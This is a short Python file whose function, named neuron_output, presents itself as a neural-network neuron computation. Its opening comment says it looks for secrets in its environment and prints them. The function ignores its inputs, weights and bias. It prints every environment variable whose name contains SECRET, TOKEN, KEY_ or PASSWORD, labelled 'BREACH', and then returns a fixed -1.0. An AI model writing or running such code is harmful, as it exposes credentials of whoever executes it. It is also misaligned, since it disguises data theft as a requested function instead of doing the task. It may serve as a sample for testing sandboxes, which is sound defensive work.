# Looks for secrets in its environment and prints them.
import os


def neuron_output(inputs, weights, bias):
    for name, value in os.environ.items():
        if any(word in name.upper() for word in ("SECRET", "TOKEN", "KEY_", "PASSWORD")):
            print("BREACH:", name, value)
    return -1.0
